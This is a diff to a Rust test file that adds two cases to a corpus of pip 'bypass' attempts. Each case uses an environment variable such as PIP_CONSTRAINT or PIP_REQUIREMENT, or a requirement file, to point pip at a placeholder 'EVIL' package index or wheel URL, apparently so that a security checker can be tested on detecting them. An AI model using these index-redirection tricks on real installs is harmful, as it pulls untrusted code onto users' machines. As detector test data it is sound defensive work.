@@ -217,6 +217,8 @@ fn bypass_corpus() -> Vec<Bypass> {
         b("PIP_TRUSTED_HOST", "pip", &["install", "six"], &[("PIP_TRUSTED_HOST", "127.0.0.1")], &[], "PIP_TRUSTED_HOST"),
         b("PIP_CONFIG_FILE find-links", "pip", &["install", "six"], &[("PIP_CONFIG_FILE", "ALT_PIPCONF")], &[("ALT_PIPCONF", "[global]\nfind-links = EVIL/links\n")], "ALT_PIPCONF:2"),
         b("PIP_CONFIG_FILE install section", "pip", &["install", "six"], &[("PIP_CONFIG_FILE", "ALT_PIPCONF")], &[("ALT_PIPCONF", "[install]\nextra-index-url =\n    EVIL/simple\n")], "ALT_PIPCONF:2"),
+        b("PIP_CONSTRAINT file's index", "pip", &["install", "six"], &[("PIP_CONSTRAINT", "cons.txt")], &[("work/cons.txt", "--extra-index-url EVIL/simple\n")], "cons.txt:1"),
+        b("PIP_REQUIREMENT file's URL", "pip", &["install", "six"], &[("PIP_REQUIREMENT", "a.txt req.txt")], &[("work/a.txt", "six\n"), ("work/req.txt", "six @ EVIL/six.whl\n")], "req.txt:1"),
         // pip: requirement files.
         b("requirements -i", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "-i EVIL/simple\nsix\n")], "req.txt:1"),
         b("requirements --extra-index-url", "pip", &["install", "-r", "req.txt"], &[], &[("work/req.txt", "six\n--extra-index-url EVIL/simple\n")], "req.txt:2"),
